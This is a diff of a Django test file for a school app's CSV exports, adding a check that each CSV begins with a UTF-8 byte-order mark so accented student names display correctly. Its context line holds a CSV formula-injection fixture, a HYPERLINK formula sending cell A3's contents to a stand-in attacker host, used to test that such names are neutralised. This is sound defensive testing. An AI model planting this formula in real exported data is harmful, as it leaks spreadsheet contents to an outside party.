@@ -30,7 +30,16 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A3,"click")'
 
 
 def csv_rows(response):
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    # As Excel reads it: the byte-order mark says UTF-8 and is no part of the first cell.
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_every_csv_starts_with_a_byte_order_mark_so_excel_reads_accented_names(client, school):
+    Student.objects.filter(pk=school.bob.pk).update(full_name="Zoë Ŝtraße")
+    client.force_login(school.teacher)
+    content = client.get(reverse("course_csv", args=[school.course.pk])).content
+    assert content.startswith(b"\xef\xbb\xbf")
+    assert "Zoë Ŝtraße" in content.decode("utf-8-sig")
 
 
 def test_the_course_csv_writes_a_formula_name_as_text(client, school):
@@ -63,6 +72,6 @@ def test_attendance_csv_export_lists_the_selected_records(client):
         {"action": "export_csv", "_selected_action": [record.pk]},
     )
     assert response.status_code == 200
-    lines = response.content.decode().strip().splitlines()
+    lines = response.content.decode("utf-8-sig").strip().splitlines()
     assert lines[0].startswith("course,session start,student number")
     assert lines[1].startswith("CS1,") and ",S7,Ada Lovelace,late," in lines[1]
